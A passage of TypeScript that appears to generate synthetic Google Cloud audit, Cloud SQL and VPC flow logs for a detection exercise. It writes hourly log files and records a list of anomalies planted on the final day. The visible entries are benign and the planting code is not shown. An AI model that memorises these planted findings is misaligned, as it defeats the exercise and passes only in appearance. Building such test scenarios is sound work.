  h.entries.sql.push(w.pgaudit({ time: h.time(12), instance: n.pgInstance, user: 'orders_app', database: 'orders', auditClass: 'READ', command: 'SELECT', statement: 'SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.id IN (1, 2, 3, 4, 5, 6, 7, 8, 9)' }));
  // A single mistyped password from the app's known range: not a burst, known user and range.
  h.entries.sql.push(...w.postgresConnection({ time: h.time(9), instance: n.pgInstance, host: `${W.podNodeNets[0]}77`, user: 'orders_app', database: 'orders', failed: true }));
}

function hourPath(logId: string, t: Date): string {
  const iso = t.toISOString();
  const [date = '', time = ''] = iso.split('T');
  const hh = time.slice(0, 2);
  return `${logId}/${date.replace(/-/g, '/')}/${hh}:00:00_${hh}:59:59_S0.json`;
}

/** Builds the whole scenario in memory. */
export function buildScenario(options: ScenarioOptions = DEFAULT_OPTIONS): { files: ScenarioFile[]; planted: PlantedFinding[]; todayStart: Date } {
  const w = new Writer(options.seed, options.names);
  const W = world(w);
  const files: ScenarioFile[] = [];
  const planted: PlantedFinding[] = [];
  const days = options.historyDays + 1;
  const todayStart = new Date(options.start.getTime() + options.historyDays * 86400_000);
  for (let day = 0; day < days; day++) {
    const isToday = day === options.historyDays;
    // GKE nodes are replaced by an upgrade on the last day: the pool keeps its name, the hash changes.
    const nodeHash = isToday ? 'c0ffee42' : '1a2b3c4d';
    const hours: Hour[] = [];
    for (let h = 0; h < 24; h++) {
      const base = options.start.getTime() + (day * 24 + h) * 3600_000;
      hours.push({ time: (minute = 0) => new Date(base + minute * 60_000 + w.int(0, 59_999)), entries: { gcs: [], sql: [], vpc: [] } });
    }
    for (const hour of hours) for (let r = 0; r < Math.max(1, Math.round(options.perHour / 10)); r++) normalHour(w, W, hour, { nodeHash });
    if (isToday) {
      planted.push(...plantAnomalies(w, W, hours));
      benignChurn(w, W, hours);
    }
    const folder = isToday ? 'today' : 'history';
    const gzip = options.gzipOldHistory && !isToday && day < options.historyDays - 1;
    for (const hour of hours) {
      const t = hour.time();
      const groups: [string, string, Entry[]][] = [
        [`${options.names.project}-gcs-audit-logs`, 'cloudaudit.googleapis.com/data_access', hour.entries.gcs],
        [`${options.names.project}-cloudsql-audit-logs`, 'mixed', hour.entries.sql],
        [`${options.names.project}-vpc-flow-logs`, 'compute.googleapis.com/vpc_flows', hour.entries.vpc],
      ];
      for (const [bucket, logId, entries] of groups) {
        if (logId === 'mixed') {
          // A Cloud SQL sink exports three logs: each its own object, as Cloud Logging names them.
          const byLog = new Map<string, Entry[]>();
          for (const e of entries) {
            const id = decodeURIComponent(String(e['logName']).split('/logs/')[1]!);
            byLog.set(id, [...(byLog.get(id) ?? []), e]);
          }
          for (const [id, list] of [...byLog].sort(([a], [b]) => (a < b ? -1 : 1))) files.push(toFile(`${folder}/${bucket}/${hourPath(id, t)}`, list, gzip));
        } else files.push(toFile(`${folder}/${bucket}/${hourPath(logId, t)}`, entries, gzip));
      }
    }
  }
  return { files, planted, todayStart };
}

function toFile(path: string, entries: Entry[], gzip: boolean): ScenarioFile {
  const sorted = [...entries].sort((a, b) => (String(a['timestamp']) < String(b['timestamp']) ? -1 : 1));
  const text = sorted.map((e) => JSON.stringify(e)).join('\n') + (sorted.length ? '\n' : '');
  return gzip ? { path: `${path}.gz`, content: gzipSync(text, { level: 9 }) } : { path, content: Buffer.from(text) };
}
